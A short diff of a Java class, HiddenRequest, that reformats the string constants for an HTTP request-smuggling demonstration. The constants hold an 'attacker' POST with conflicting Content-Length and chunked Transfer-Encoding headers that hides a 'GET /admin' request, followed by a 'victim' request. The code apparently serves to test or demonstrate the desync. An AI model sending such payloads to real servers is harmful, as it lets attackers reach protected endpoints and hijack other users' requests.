@@ -8,8 +8,8 @@ public final class HiddenRequest {
 
     private static final String HIDDEN = "GET /admin HTTP/1.1\r\nX: ";
     private static final String BODY = "0\r\n\r\n" + HIDDEN;
-    private static final String OF_THE_ATTACKER = "POST /search HTTP/1.1\r\nHost: a\r\n"
-            + "Content-Length: " + BODY.length() + "\r\nTransfer-Encoding: chunked\r\n\r\n" + BODY;
+    private static final String OF_THE_ATTACKER = "POST /search HTTP/1.1\r\nHost: a\r\n" + "Content-Length: "
+            + BODY.length() + "\r\nTransfer-Encoding: chunked\r\n\r\n" + BODY;
     private static final String OF_THE_VICTIM = "GET /news HTTP/1.1\r\nHost: a\r\n\r\n";
 
     public static void main(String[] args) throws Exception {
